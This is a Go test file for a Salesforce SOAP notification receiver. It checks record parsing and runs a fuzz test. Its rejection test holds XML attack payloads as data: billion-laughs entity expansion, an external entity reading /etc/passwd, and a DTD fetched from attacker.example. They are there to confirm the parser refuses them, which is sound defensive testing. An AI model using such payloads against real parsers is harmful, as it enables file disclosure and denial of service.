package salesforce

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/omnicapi/omnicapi/pkg/format/receive"
	"github.com/omnicapi/omnicapi/pkg/format/receive/receivetest"
)

// outbound is a message with what a test puts into its notifications.
func outbound(inner string) string {
	return `<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="i"><e:Body><notifications xmlns="o">` +
		`<OrganizationId>00D1</OrganizationId><SessionId>a!key</SessionId>` + inner + `</notifications></e:Body></e:Envelope>`
}

func record(fields string) string {
	return `<Notification><Id>04l1</Id><sObject xsi:type="sf:Lead" xmlns:sf="s">` + fields + `</sObject></Notification>`
}

// TestSalesforceReads: what becomes of a notification's record.
func TestSalesforceReads(t *testing.T) {
	for name, c := range map[string]struct{ inner, want string }{
		"plain":     {record(`<sf:Id>1</sf:Id><sf:Email> a@b.c </sf:Email>`), `{"Id":"1","Email":"a@b.c"}`},
		"prefix":    {record(`<x:Id xmlns:x="s">1</x:Id>`), `{"Id":"1"}`},
		"nil":       {record(`<sf:Email xsi:nil="true"/><sf:Phone xsi:nil="1"></sf:Phone><sf:Fax/>`), `{}`},
		"entities":  {record(`<sf:Name>A &amp; &lt;B&gt; &#x263a;</sf:Name>`), `{"Name":"A & <B> ☺"}`},
		"cdata":     {record(`<sf:Name><![CDATA[<b>&amp;]]></sf:Name>`), `{"Name":"<b>&amp;"}`},
		"comment":   {record(`<sf:Name>Ja<!-- x -->ne</sf:Name>`), `{"Name":"Jane"}`},
		"twice":     {record(`<sf:Id>1</sf:Id><sf:Id>2</sf:Id>`), `{"Id":"2"}`},
		"compound":  {record(`<sf:Address><sf:city>Rome</sf:city></sf:Address><sf:Id>1</sf:Id>`), `{"Id":"1"}`},
		"escaped":   {record("<sf:Name>\"\\\n\t</sf:Name>"), `{"Name":"\"\\"}`},
		"elsewhere": {`<Other><sObject><Id>9</Id></sObject></Other>` + record(``), `{}`},
	} {
		in := &receive.Input{Request: httptest.NewRequest(http.MethodPost, "/", nil), Body: []byte(outbound(c.inner))}
		var b receive.Batch
		if r := (Receiver{}).Split(in, &b); r != nil {
			t.Errorf("%s: refused: %s", name, r.Detail)
			continue
		}
		want := `{"notification":"04l1","type":"Lead","record":` + c.want + `}`
		if len(b.Items) != 1 || string(b.Items[0].Value) != want || b.Claim.Key != "00D1" || strings.Contains(string(b.Context), "key") {
			t.Errorf("%s: %s, want %s; key %q, context %s", name, b.Items[0].Value, want, b.Claim.Key, b.Context)
		}
	}
}

// TestSalesforceRefusesBombs: entities, documents that name others, depth and width, each at once.
func TestSalesforceRefusesBombs(t *testing.T) {
	var wide strings.Builder
	for i := range soapFields + 1 {
		fmt.Fprintf(&wide, "<f%d>1</f%d>", i, i)
	}
	for name, body := range map[string]string{
		"billion laughs":  `<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>` + outbound(record(`<Id>&b;</Id>`)),
		"external entity": `<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + outbound(record(`<Id>&x;</Id>`)),
		"external subset": `<!DOCTYPE l SYSTEM "http://attacker.example/x.dtd">` + outbound(""),
		"entity":          outbound(record(`<Id>&x;</Id>`)),
		"deep":            strings.Repeat("<a>", 1<<16),
		"wide":            outbound(record(wide.String())),
		"many":            outbound(strings.Repeat("<a/>", soapElements)),
		"encoding":        `<?xml version="1.0" encoding="UTF-7"?>` + outbound(""),
		"not UTF-8":       outbound(record("<Id>\xff</Id>")),
		"control":         outbound(record("<Id>&#0;</Id>")),
		"unclosed":        strings.TrimSuffix(outbound(""), "</e:Envelope>"),
		"crossed":         `<Envelope><Body></Envelope></Body>`,
	} {
		in := &receive.Input{Request: httptest.NewRequest(http.MethodPost, "/", nil), Body: []byte(body)}
		started := time.Now()
		if r := (Receiver{}).Split(in, &receive.Batch{}); r == nil {
			t.Errorf("%s is taken", name)
		}
		if d := time.Since(started); d > 20*time.Second {
			t.Errorf("%s takes %s", name, d)
		}
	}
}

func FuzzReceive(f *testing.F) {
	for _, seed := range []string{
		outbound(record(`<sf:Id>00Q1</sf:Id><sf:Status>Qualified</sf:Status><sf:Email>jane.doe@example.com</sf:Email>`)),
		outbound(record(`<sf:Id xsi:nil="true"/>`) + record(`<sf:A>&#x41;</sf:A><sf:A/>`)),
		outbound(`<Notification/>`), `<!DOCTYPE x>`, `<a`, ``, `{}`, `<Envelope><Body><notifications/></Body></Envelope>`,
	} {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		receivetest.Decode(t, Receiver{}, Format.Answer, body, "text/xml", nil)
	})
}
